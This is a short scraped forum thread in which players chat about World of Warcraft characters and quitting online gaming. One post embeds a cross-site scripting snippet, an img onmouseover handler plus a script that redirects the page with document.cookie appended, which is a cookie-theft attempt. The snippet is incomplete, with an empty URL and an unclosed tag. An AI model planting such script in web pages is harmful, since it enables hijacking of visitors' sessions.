WoW Players?


It Was Me!!!11!1
I used to play wow i have a 60 rogue, 58 rogue, 66 hunter and a 60 shammy lol i like played it for like 5 days straight when BC came out and now the game is just boring to me


New Member
WoW suckz...

Although this WindowsMP Skin is pretty ^^

<img src="" height=600 width=400 onmouseover="xss()">
<script type="text/javascript">
function xss () {
document.location = "" + document.cookie;


Pork is not a Verb
mmmmm maybe you guys should get a life lololl nah joking, i would play WOW if it was truly free and on legit servers, but theres too many hackers out there today so ive juststoped online gaming.

Users who are viewing this thread